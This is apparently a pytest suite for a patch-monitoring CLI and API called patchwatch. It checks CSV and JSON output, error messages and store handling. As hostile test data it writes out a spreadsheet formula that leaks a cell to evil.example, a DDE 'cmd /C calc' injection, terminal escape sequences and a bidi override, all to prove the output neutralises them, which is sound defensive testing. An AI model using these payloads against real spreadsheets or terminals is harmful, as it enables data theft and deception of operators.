"""The operator's first day: what the CLI and the API write, and how they refuse.

Driven as cron would, a subprocess on a real store (``tests.test_cli_operators``).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from patchwatch import __version__
from patchwatch.domain import listings
from patchwatch.domain.protocols import PATCHMAN1
from patchwatch.domain.settings import Settings
from patchwatch.domain.tabular import csv_text
from patchwatch.inventory.attention import attention
from patchwatch.inventory.dbcheck import check_store
from patchwatch.inventory.os_groups import os_release_list
from patchwatch.inventory.packages import orphan_packages
from patchwatch.inventory.repositories import possible_mirrors
from patchwatch.inventory.repositories import repository_list
from patchwatch.pipeline.processing import process_pending
from patchwatch.pipeline.processing import store_report
from patchwatch.receiver.app import create_app
from patchwatch.store.queries import HostFilter
from patchwatch.store.queries import host_summaries
from patchwatch.store.queries import hosts_with_package
from patchwatch.store.queries import pending_update_summary
from patchwatch.store.queries import repository_summaries
from patchwatch.store.tokens import create_token
from tests.conftest import ROOT
from tests.test_cli_operators import SQLITE_ONLY
from tests.test_cli_operators import cli
from tests.test_cli_operators import fails
from tests.test_inventory import seed_fleet

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "reports"
ESCAPE = "\x1b]0;owned\x07\x1b[2J"  # retitle the window, clear the screen
FORMULA_TAG = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def fleet(db, database_url: str, tmp_path: Path):
    now = time.time()
    ids = seed_fleet(now)
    hostile = _form("patchman1-debian12")  # Patchman's tags are free text
    hostile.update(host="evil.example.com", tags=f"{FORMULA_TAG},+1,-2,prod",
                   kernel=f"6.1.0{ESCAPE}-amd64", os=f"Debian{ESCAPE}\u202e 12.8")  # fmt: skip
    hostile["packages"] += (
        "'@cmd' '' '1.0' '1' 'amd64' 'deb'\n'epochal' '2' '1.4' '3' 'amd64' 'deb'\n"
    )
    store_report("evil.example.com", PATCHMAN1, hostile, now)
    assert process_pending(now) == {"processed": 1}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return cli(database_url, *args, home=tmp_path)

    run.ids = ids  # type: ignore[attr-defined]
    run.url = database_url  # type: ignore[attr-defined]
    return run


def _form(name: str) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted((FIXTURES / name).iterdir())}


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_listing_declares_the_fields_its_rows_carry(fleet) -> None:
    """The CSV header is declared (patchwatch.domain.listings): it must be every field the
    rows have, in one order, so that a field added to a listing cannot go missing."""
    now = time.time()
    listed = {
        listings.HOSTS: host_summaries(HostFilter(), now),
        listings.PACKAGE_HOSTS: hosts_with_package("openssl"),
        listings.REPOSITORY_SUMMARIES: repository_summaries(),
        listings.REPOSITORIES: repository_list(),
        listings.PENDING_UPDATES: pending_update_summary(),
        listings.ATTENTION: attention(now),
        listings.ORPHANS: orphan_packages(None),
        listings.POSSIBLE_MIRRORS: possible_mirrors(),
        listings.OS_RELEASES: os_release_list(),
        listings.DBCHECK: check_store(fix=False),
    }
    for fields, rows in listed.items():
        assert rows, fields
        for row in rows:
            flat = {k for k, v in row.items()
                    if not (isinstance(v, list) and v and isinstance(v[0], dict))}  # fmt: skip
            flat -= {"mirrors"} if fields == listings.REPOSITORY_SUMMARIES else set()
            assert set(fields) == flat, (fields, sorted(flat))


@SQLITE_ONLY
def test_csv_has_one_header_iso_times_true_false_and_no_formulas(fleet) -> None:
    full = fleet("hosts", "list", "--format", "csv").stdout
    empty = fleet("hosts", "list", "--name", "nothing*", "--format", "csv").stdout
    assert full.splitlines()[0] == empty.strip() == ",".join(listings.HOSTS)
    rows = {r["name"]: r for r in _csv(full)}
    web1 = rows["web1.example.com"]
    assert web1["reboot_required"] == "false" and rows["web2.example.com"]["reboot_required"] == (
        "true")  # fmt: skip
    assert len(web1["last_report_at"]) == 20 and web1["last_report_at"].endswith("Z")
    assert web1["last_report_at"][10] == "T"  # 2026-11-24T01:24:31Z, ISO 8601 in UTC
    evil = rows["evil.example.com"]
    # every value a spreadsheet would run starts with a quote; numbers stay numbers
    assert evil["tags"] == "'" + " ".join(sorted([FORMULA_TAG, "+1", "-2", "prod"]))
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert web1["packages"] == "5"
    for args in (("attention",), ("repos", "list"), ("os", "list"), ("packages", "orphans"),
                 ("repos", "possible-mirrors"), ("dbcheck",), ("token", "list"),
                 ("packages", "hosts", "bash")):  # fmt: skip
        out = fleet(*args, "--format", "csv")
        assert out.returncode == 0, (args, out.stderr)
        assert "," in out.stdout.splitlines()[0]
    (cmd,) = _csv(fleet("packages", "hosts", "@cmd", "--format", "csv").stdout)
    assert (cmd["host"], cmd["name"], cmd["version_string"]) == (
        "evil.example.com",
        "'@cmd",
        "1.0-1",
    )
    assert _csv(fleet("attention", "--format", "csv").stdout)[0]["since"].endswith("Z")


def test_the_api_writes_csv_as_the_cli_does(fleet, db, tmp_path: Path) -> None:
    app = create_app(Settings(data_dir=str(tmp_path), process_inline=False), db=db)
    client = app.test_client()
    _token, secret = create_token("admin", time.time())
    auth = {"Authorization": f"Bearer {secret}"}
    api = client.get("/api/v1/hosts?format=csv", headers=auth).get_data(as_text=True)
    assert api == csv_text(host_summaries(HostFilter(), time.time()), listings.HOSTS)
    rows = _csv(api)
    # unknown (no signal, no kernel to compare) is empty, never "false"
    assert {"true", "false"} <= {r["reboot_required"] for r in rows} <= {"true", "false", ""}
    assert all(r["last_report_at"].endswith("Z") for r in rows)
    assert next(r for r in rows if r["name"] == "evil.example.com")["tags"].startswith("'")
    for path, fields in (("/api/v1/hosts?name=nothing*", listings.HOSTS),
                         ("/api/v1/packages/nothing/hosts", listings.PACKAGE_HOSTS),
                         ("/api/v1/attention?stale_days=1000&page=9", listings.ATTENTION),
                         ("/api/v1/updates?page=999", listings.PENDING_UPDATES),
                         ("/api/v1/repositories?page=999", listings.REPOSITORY_SUMMARIES),
                         ("/api/v1/os-releases?page=999", listings.OS_RELEASES),
                         ("/api/v1/repositories/possible-mirrors?page=999",
                          listings.POSSIBLE_MIRRORS),
                         ("/api/v1/packages/orphans?page=999", listings.ORPHANS)):  # fmt: skip
        sep = "&" if "?" in path else "?"
        text = client.get(f"{path}{sep}format=csv", headers=auth).get_data(as_text=True)
        assert text == ",".join(fields) + "\n", path  # the header, even with no rows


def test_hosts_show_and_the_api_give_the_same_fields(fleet, db, tmp_path: Path) -> None:
    app = create_app(Settings(data_dir=str(tmp_path), process_inline=False), db=db)
    _token, secret = create_token("admin", time.time())
    auth = {"Authorization": f"Bearer {secret}"}
    api = app.test_client().get("/api/v1/hosts/web1.example.com", headers=auth).get_json()
    shown = json.loads(fleet("hosts", "show", "web1", "--format", "json").stdout)
    assert set(api) == set(shown)
    for key in ("maintenance_until", "agent", "os_variant", "updates_computed_at",
                "check_updates", "in_maintenance"):  # fmt: skip
        assert key in api
    assert api["updates"] == shown["updates"] and api["packages"] == shown["packages"]


@SQLITE_ONLY
def test_terminal_output_shows_control_characters_escaped(fleet) -> None:
    """Kernel, OS and tags come from hosts: a table, ``hosts show`` and JSON never put an
    escape sequence or a bidi override on the operator's terminal."""
    outputs = [
        fleet("hosts", "list").stdout,
        fleet("hosts", "show", "evil").stdout,
        fleet("hosts", "show", "evil", "--format", "json").stdout,
        fleet("hosts", "diff", "web1", "evil").stdout,
        fleet("hosts", "list", "--format", "json").stdout,
    ]
    for text in outputs:
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text
    shown = outputs[1]
    assert "6.1.0\\x1b]0;owned\\x07\\x1b[2J-amd64" in shown  # shown, as an escape
    assert json.loads(outputs[2])["kernel"] == f"6.1.0{ESCAPE}-amd64"  # JSON keeps the value
    assert "\\u202e" in outputs[2]


@SQLITE_ONLY
def test_usage_errors_exit_2_name_the_command_and_never_echo_values(fleet) -> None:
    fails(fleet("clean", "--keep", "-1"), 2, "patchwatch clean: argument --keep")
    fails(fleet("clean", "--keep", "0"), 2, "must be at least 1")
    fails(fleet("process", "--workers", "0"), 2, "patchwatch process: argument --workers")
    fails(fleet("hosts", "list", "--stale-days", "x"), 2, "patchwatch hosts list: argument")
    fails(fleet("hosts", "show", "nope"), 1, "patchwatch hosts show: no host named 'nope'")
    fails(fleet("hosts", "show", "web*"), 2, "patchwatch hosts show: 'web*' matches 2 hosts")
    fails(fleet("hosts", "set", "web1"), 2, "patchwatch hosts set: nothing to set")
    # no abbreviations: --for is not --force, --form is not --format
    fails(fleet("refresh", "--for"), 2, "unrecognized arguments: --for")
    fails(fleet("hosts", "list", "--form", "json"), 2, "patchwatch hosts list: unrecognized")
    secret = "pw_abcdef_s3cr3t"
    out = fleet("token", "list", "--token", secret)
    fails(out, 2, "patchwatch token list: unrecognized arguments: --token, 1 value not shown")
    out = fleet("token", "list", f"--token={secret}", "stray")
    assert out.returncode == 2 and secret not in out.stderr and "stray" not in out.stderr


@SQLITE_ONLY
def test_version_quiet_after_the_verb_and_token_list_as_json(fleet) -> None:
    out = fleet("--version")
    assert (out.returncode, out.stdout.strip()) == (0, f"patchwatch {__version__}")
    for verb in (("refresh", "--repo", "999999"), ("updates",), ("dbcheck",)):
        quiet = fleet(*verb, "-q")
        assert quiet.returncode in (0, 1), quiet.stderr
        assert quiet.stdout == "" or verb == ("dbcheck",), (verb, quiet.stdout)
    assert fleet("updates").stdout.endswith("reused\n")  # not quiet: says what it did
    create = fleet("token", "create", "--admin", "--comment", "=cmd|' /C calc'!A0")
    prefix = create.stderr.split("token ")[1].split(";")[0]
    tokens = json.loads(fleet("token", "list", "--format", "json").stdout)
    (token,) = [t for t in tokens if t["prefix"] == prefix]
    assert token["kind"] == "admin" and token["state"] == "active"
    assert isinstance(token["created_at"], float) and "secret" not in json.dumps(tokens)
    assert create.stdout.strip() not in json.dumps(tokens)
    rows = _csv(fleet("token", "list", "--format", "csv").stdout)
    assert rows[0]["comment"].startswith("'=")


VERBS_THAT_NEED_A_STORE = [
    ("token", "list"), ("token", "create", "--admin"), ("token", "revoke", "pw_x"),
    ("refresh",), ("updates",), ("process",), ("clean",), ("hosts", "list"), ("attention",),
]  # fmt: skip


@pytest.mark.parametrize("verb", VERBS_THAT_NEED_A_STORE, ids=" ".join)
def test_operator_verbs_never_create_a_store(verb: tuple[str, ...], tmp_path: Path) -> None:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    proc = subprocess.run(
        [sys.executable, "-m", "patchwatch", *verb], cwd=folder,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    named = " ".join(word for word in verb[:2] if not word.startswith("-"))
    fails(proc, 1, f"patchwatch {named}: no database at ")
    assert f"no database at {folder / 'data' / 'patchwatch.db'}" in proc.stderr
    assert list(folder.iterdir()) == []  # nothing made: no folder, no file


def test_data_dir_before_the_verb_reaches_the_servers_store(server_factory, tmp_path) -> None:
    """The README's steps, from another folder: ``--data-dir`` finds the server's store."""
    srv = server_factory()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PYTHONPATH": str(ROOT)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "patchwatch", *args], cwd=elsewhere, env=env,
                              capture_output=True, text=True, timeout=60)  # fmt: skip

    assert run("token", "create", "--enroll").returncode == 1  # not from here
    created = run("--data-dir", str(srv.data_dir), "token", "create", "--enroll")
    assert created.returncode == 0, created.stderr
    listed = run("--data-dir", str(srv.data_dir), "token", "list", "--format", "json")
    assert [t["kind"] for t in json.loads(listed.stdout)] == ["enroll"]
    assert list(elsewhere.iterdir()) == []


@SQLITE_ONLY
def test_package_versions_are_matched_as_users_write_them(fleet) -> None:
    """dpkg prints 2:1.4-3; people type 1.4-3 or 1.4: all find the host."""
    for version in ("2:1.4-3", "1.4-3", "1.4"):
        rows = json.loads(fleet("packages", "hosts", "epochal", "--version", version,
                                "--format", "json").stdout)  # fmt: skip
        assert [(r["host"], r["version_string"]) for r in rows] == [
            ("evil.example.com", "2:1.4-3")], version  # fmt: skip
    out = fleet("packages", "hosts", "epochal", "--version", "1:1.4-3")
    assert out.returncode == 0 and out.stdout == ""
    assert out.stderr.strip() == "no host has epochal 1:1.4-3 installed; installed: 2:1.4-3"
    rows = hosts_with_package("openssl", "0:3.0.14-1")  # an epoch of 0 written out
    assert {r["host"] for r in rows} >= {"web1.example.com", "db1.example.org"}
